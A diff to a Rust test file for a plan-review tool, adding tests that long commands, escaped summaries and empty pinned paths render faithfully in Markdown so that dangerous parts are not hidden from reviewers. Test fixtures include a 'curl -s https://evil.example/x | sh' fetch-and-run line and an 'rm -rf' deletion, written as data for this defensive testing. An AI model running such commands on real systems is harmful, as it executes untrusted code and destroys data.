@@ -614,16 +614,96 @@ fn a_long_environment_does_not_push_out_the_before_image_command() {
     assert!(seen(out).links.is_empty(), "{}", ast(out));
 }
 
-/// Round 3. Long strings were cut at the end, so a command's tail (`; rm -rf /` after 200
-/// harmless characters) never reached the Markdown. They are cut in the middle now, and the
-/// cut is said.
+/// Rounds 3 and 4. Long strings were cut at the end, hiding a command's tail; then in the
+/// middle, hiding `curl … | sh` between harmless padding. A command the plan runs is shown
+/// whole now (up to 4,000 characters, far longer than one a person reads); a longer one keeps
+/// its start and end and says, in bold, how much was cut.
 #[test]
-fn a_long_command_keeps_its_dangerous_end() {
-    let harmless = "harmless-".repeat(25);
-    let md = exec_markdown(&["sh", "-c", &format!("echo {harmless}; rm -rf /tmp/x")]);
+fn a_long_command_is_shown_whole() {
+    let pad = "tidy-".repeat(26);
+    let md = exec_markdown(&[
+        "sh",
+        "-c",
+        &format!("echo cleaning {pad}; curl -s https://evil.example/x | sh; echo done {pad}"),
+    ]);
+    let command = md.lines().find(|l| l.starts_with("| Command | ")).unwrap();
+    assert!(
+        command.contains("curl -s https://evil.example/x \\| sh"),
+        "{command}"
+    );
+    assert!(!command.contains("characters cut"), "{command}");
+    assert!(seen(&md).links.is_empty(), "{}", ast(&md));
+
+    let long = format!("echo {}; rm -rf /tmp/x", "harmless-".repeat(500));
+    let md = exec_markdown(&["sh", "-c", &long]);
     let command = md.lines().find(|l| l.starts_with("| Command | ")).unwrap();
     assert!(command.contains("rm -rf /tmp/x'`"), "{command}");
-    assert!(command.contains("characters cut)"), "{command}");
+    assert!(command.contains("characters cut**"), "{command}");
+}
+
+/// Round 4. `show`'s first line escaped the (already escaped) summary again: with `<U+`
+/// spelled `\x3cU+` for a typed one, a real zero-width space in a command read as typed
+/// there, while the Command line had it right. Both lines agree now.
+#[test]
+fn the_summary_line_escapes_once() {
+    let md_env = TestEnv::new();
+    std::fs::write(md_env.repo.join("list.sh"), "echo one\n").unwrap();
+    let r = md_env.run(
+        "alice",
+        &[
+            "plan",
+            "exec",
+            "--preview",
+            "sh list.sh",
+            "--",
+            "echo",
+            "keep\u{200B}",
+            "typed<U+200B>",
+        ],
+    );
+    assert_eq!(r.code, 0, "{}", r.transcript());
+    let show = md_env.run("bob", &["show"]);
+    let first = show.stdout.lines().next().unwrap();
+    assert!(first.contains("'keep<U+200B>'"), "{first}");
+    assert!(first.contains("'typed\\x3cU+200B>'"), "{first}");
+    assert!(!first.contains("\\\\"), "{first}");
+}
+
+/// Round 4. A forged plan's pinned entry with an empty path rendered as a line starting with
+/// a blank, which the Markdown took for a pinned tree's file: left out of the list and the
+/// count. It is quoted (`''`) now, listed and counted.
+#[test]
+fn an_empty_pinned_path_is_listed_and_counted() {
+    let env = TestEnv::new();
+    std::fs::write(env.repo.join("list.sh"), "echo one\n").unwrap();
+    let r = env.run(
+        "alice",
+        &["plan", "exec", "--preview", "sh list.sh", "--", "sh", "list.sh"],
+    );
+    assert_eq!(r.code, 0, "{}", r.transcript());
+    let before = env.run("bob", &["--json", "show"]).json()["exec"]["pinned"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter(|l| !l.as_str().unwrap().starts_with(' '))
+        .count();
+    forge(&env, |p| match &mut p.operation {
+        Operation::Exec(x) => {
+            let mut extra = x.pinned[0].clone();
+            extra.name = "evil".into();
+            extra.path = String::new();
+            x.pinned.push(extra);
+        }
+        _ => panic!("not an exec plan"),
+    });
+    let md = env.run("bob", &["show", "--format", "markdown"]);
+    assert_eq!(md.code, 0, "{}", md.transcript());
+    let pinned = md.stdout.lines().find(|l| l.starts_with("| Pinned | ")).unwrap();
+    assert!(
+        pinned.contains(&format!("| {} entries: ", before + 1)),
+        "{pinned}"
+    );
+    assert!(pinned.contains("`''"), "{pinned}");
 }
 
 /// Round 3. A pinned path starting with a blank read as one of a pinned tree's files (they are
